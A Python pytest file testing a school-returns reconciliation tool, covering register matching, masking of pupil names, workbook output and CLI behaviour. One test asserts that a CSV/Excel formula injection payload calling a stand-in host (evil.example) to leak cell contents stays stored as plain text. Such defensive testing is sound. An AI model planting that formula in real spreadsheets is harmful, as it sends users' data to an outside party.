"""The monthly reconciliation of the fixture set gives exactly the expected differences, the same way every time."""
from __future__ import annotations

import json
import shutil
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from apxl.cli import app
from apxl.io.returns.reconcile import reconcile, return_files
from apxl.io.returns.report import write_reconciliation

from .conftest import EXPECTED, INVOICES, MONTH, MONTH_DIR, REGISTER

AS_OF = date(2025, 3, 31)
runner = CliRunner()


@pytest.fixture(scope="module")
def month(la):
    register, policy = la
    files, ignored = return_files(MONTH_DIR)
    return reconcile(register, "register.xlsx", files, MONTH, policy, as_of=AS_OF, invoices=INVOICES, ignored=ignored)


def _without_rule_messages(summary: dict) -> dict:
    """Rule messages belong to the rule modules (and are tested there); the golden file holds everything else."""
    out = json.loads(json.dumps(summary, default=str))
    for key in ("attendance", "registration"):
        for rec in out[key]:
            rec.pop("message", None)
    return out


def test_fixture_month_gives_exactly_the_expected_summary(month):
    expected = json.loads((EXPECTED / "reconcile.json").read_text())
    assert _without_rule_messages(month.summary()) == expected


def test_reg005_counts_every_school_together(month):
    reg = month.registration
    assert list(reg["provider_id"]) == ["P004"] and bool(reg["only_with_returns"].iloc[0])
    message = reg["message"].iloc[0]
    for pid in ("AP-0002", "AP-0004", "RET-100001-2025-03-R5", "RET-100002-2025-03-R7", "RET-100003-2025-03-R3"):
        assert pid in message
    assert "5 pupils" in message


def test_summary_field_names_are_stable(month):
    s = month.summary()
    assert list(s) == ["month", "register", "counts", "returns", "not_on_register", "not_returned", "differences", "schools_not_returned",
                       "attendance", "registration", "invoices", "invoice_problems", "ignored_files"]
    assert list(s["counts"]) == ["returns", "processed", "refused", "not_on_register", "not_returned", "differences", "schools_not_returned",
                                 "attendance_inconsistencies", "unregistered_providers_over_limit", "invoice_mismatches"]


def test_summary_never_holds_names_or_upns(month):
    text = json.dumps(month.summary(), default=str)
    assert "938401" not in text  # every fixture UPN has this LA/establishment part
    for name in ("Adams", "Baker", "Clark", "Khan", "Lewis", "Morris", "Nash", "HYPERLINK", "Green Jo"):
        assert name not in text


def test_personal_differences_are_masked_in_the_summary(la, tmp_path):
    """A surname that differs is reported as a difference, but its values stay in the workbook."""
    register, policy = la
    src = openpyxl.load_workbook(MONTH_DIR / "100003_castle_hill.xlsx")
    src["Placements"]["C2"] = "Forster"
    folder = tmp_path / "m"
    folder.mkdir()
    src.save(folder / "100003_castle_hill.xlsx")
    rec = reconcile(register, "register.xlsx", [folder / "100003_castle_hill.xlsx"], MONTH, policy, as_of=AS_OF)
    diff = [d for d in rec.summary()["differences"] if d["field"] == "surname"]
    assert diff == [{"file": "100003_castle_hill.xlsx", "school_urn": "100003", "row": 2, "placement_id": "AP-0006", "register_row": 7,
                     "field": "surname", "column": "Surname", "register_value": None, "returned_value": None, "personal": True}]
    assert "Forster" in set(rec.differences["returned_value"])


def _sheet_text(path: Path) -> dict[str, list[tuple]]:
    wb = openpyxl.load_workbook(path)
    return {ws.title: [tuple(c.value for c in row) for row in ws.iter_rows()] for ws in wb.worksheets}


def test_same_inputs_same_output(la, month, tmp_path):
    register, policy = la
    files, ignored = return_files(MONTH_DIR)
    again = reconcile(register, "register.xlsx", files, MONTH, policy, as_of=AS_OF, invoices=INVOICES, ignored=ignored)
    assert json.dumps(again.summary(), default=str) == json.dumps(month.summary(), default=str)
    a = write_reconciliation(month, tmp_path / "a.xlsx")
    b = write_reconciliation(again, tmp_path / "b.xlsx")
    assert _sheet_text(a) == _sheet_text(b)


def test_reconciliation_workbook(month, tmp_path):
    path = write_reconciliation(month, tmp_path / "rec.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Summary", "Returns", "Not on register", "Not returned", "Differences", "Schools not returned", "Attendance",
                             "Registration", "Invoices"]
    nr = wb["Not on register"]
    assert nr["A3"].value == "File" and nr.max_row - 3 == month.counts["not_on_register"]
    surnames = [nr.cell(r, 6).value for r in range(4, nr.max_row + 1)]
    assert '=HYPERLINK("http://evil.example/?leak="&B2,"Click for details")' in surnames  # kept as text
    assert all(nr.cell(r, 6).data_type == "s" for r in range(4, nr.max_row + 1))
    inv = {wb["Invoices"].cell(r, 1).value: (wb["Invoices"].cell(r, 4).value, wb["Invoices"].cell(r, 5).value) for r in range(4, 8)}
    assert inv == {"P001": (0, "matches"), "P002": (450, "over-invoiced"), "P003": (-1400, "no invoice"), "P004": (900, "not expected")}
    assert len(wb["Returns"].tables) == 1 and wb["Returns"].max_row - 3 == 17


def test_non_spreadsheets_are_ignored_and_lock_files_skipped(tmp_path):
    folder = tmp_path / "m"
    folder.mkdir()
    shutil.copy(MONTH_DIR / "100005_eastfield.xlsx", folder / "100005_eastfield.xlsx")
    (folder / "covering note.txt").write_text("please find attached")
    (folder / "~$100005_eastfield.xlsx").write_bytes(b"lock")
    (folder / "100005_eastfield-feedback.xlsx").write_bytes(b"ours")
    files, ignored = return_files(folder)
    assert [f.name for f in files] == ["100005_eastfield.xlsx"] and ignored == ["covering note.txt"]


def _cli(*args):
    return runner.invoke(app, [*map(str, args)])


def test_cli_reconcile_json_exit_code_and_workbook(work):
    result = _cli("reconcile", "--register", work / "register.xlsx", "--returns", MONTH_DIR, "--month", MONTH, "--invoices", INVOICES,
                  "--format", "json", "--as-of", "2025-03-31")
    assert result.exit_code == 1  # differences to look at
    data = json.loads(result.stdout)
    assert _without_rule_messages(data) == json.loads((EXPECTED / "reconcile.json").read_text())
    assert (work / "reconciliation-2025-03.xlsx").exists()


def test_cli_reconcile_exit_0_when_everything_reconciles(work, la):
    """Every school returns its untouched template: nothing is missing, extra or different."""
    from apxl.io.returns.api import make_templates

    make_templates(work / "register.xlsx", MONTH, issued=date(2025, 3, 1), all_schools=work / "returns")
    result = _cli("reconcile", "--register", work / "register.xlsx", "--returns", work / "returns", "--month", MONTH, "-o", work / "rec.xlsx")
    assert result.exit_code == 0, result.stdout
    assert "not on register" in result.stdout


@pytest.mark.parametrize("args,text", [
    (["--returns", "no-such-folder", "--month", "2025-03"], "does not exist"),
    (["--returns", ".", "--month", "March"], "is not a month"),
])
def test_cli_reconcile_cannot_run(work, args, text):
    result = _cli("reconcile", "--register", work / "register.xlsx", *[work / a if a in {"no-such-folder"} else a for a in args])
    assert result.exit_code == 2
    assert text in result.output


def test_cli_ingest_and_template(work):
    result = _cli("template", "--register", work / "register.xlsx", "--school", "100001", "--month", MONTH, "-o", work / "t.xlsx")
    assert result.exit_code == 0 and (work / "t.xlsx").exists()
    result = _cli("ingest", MONTH_DIR / "100005_eastfield.xlsx", "--register", work / "register.xlsx", "--month", MONTH,
                  "--received", "2025-04-02", "--format", "json")
    data = json.loads(result.stdout)
    assert result.exit_code == 0  # warnings only
    assert data["return"]["accepted_placement_ids"] == ["RET-100005-2025-03-R2"]
    assert [r["status"] for r in data["rows"]] == ["Accepted: new placement"]
    assert set(data) == {"return", "rows", "findings", "counts"}
    assert (work / "register-merged.xlsx").exists() and (work / "100005_eastfield-feedback.xlsx").exists()
    merged = openpyxl.load_workbook(work / "register-merged.xlsx")["Placements"]
    assert merged.cell(merged.max_row, 33).value.date() == date(2025, 4, 2)  # Date received, from --received


def test_cli_ingest_refuses_hostile_returns_with_exit_2(work):
    before = sorted(p.name for p in work.iterdir())
    result = _cli("ingest", MONTH_DIR / "hostile_zip_bomb_declared.xlsx", "--register", work / "register.xlsx")
    assert result.exit_code == 2 and "zip bomb" in result.output
    assert sorted(p.name for p in work.iterdir()) == before


def test_cli_ingest_no_merge_leaves_the_register_alone(work):
    result = _cli("ingest", MONTH_DIR / "100003_castle_hill.xlsx", "--register", work / "register.xlsx", "--no-merge", "--month", MONTH)
    assert result.exit_code == 1  # STR-003 and REG-004 errors in the return
    assert not (work / "register-merged.xlsx").exists()
    assert REGISTER.read_bytes() == (work / "register.xlsx").read_bytes()


def test_progress_is_reported_per_file_and_stage(la, tmp_path):
    register, policy = la
    seen: list[str] = []
    files = [MONTH_DIR / "100005_eastfield.xlsx", MONTH_DIR / "hostile_empty.xlsx"]
    rec = reconcile(register, "register.xlsx", files, MONTH, policy, as_of=AS_OF, invoices=INVOICES, progress=seen.append)
    assert seen == ["100005_eastfield.xlsx", "hostile_empty.xlsx", "checking rows", "checking across schools", "invoices"]
    assert list(rec.returns["status"]) == ["processed", "refused"]


def test_returns_read_by_the_caller_are_not_read_again(la, month, monkeypatch):
    """The Excel import reads each return once and hands the result to reconcile (prepared=...): the same reconciliation."""
    from apxl.io.returns import reconcile as rc
    from apxl.io.returns.prepare import prepare_returns

    register, policy = la
    files, ignored = return_files(MONTH_DIR)
    ready = prepare_returns(files, register, month=MONTH)
    monkeypatch.setattr(rc, "prepare_returns", lambda *a, **k: pytest.fail("read the returns again"))
    again = reconcile(register, "register.xlsx", files, MONTH, policy, as_of=AS_OF, invoices=INVOICES, ignored=ignored, prepared=ready)
    assert json.dumps(again.summary(), default=str) == json.dumps(month.summary(), default=str)
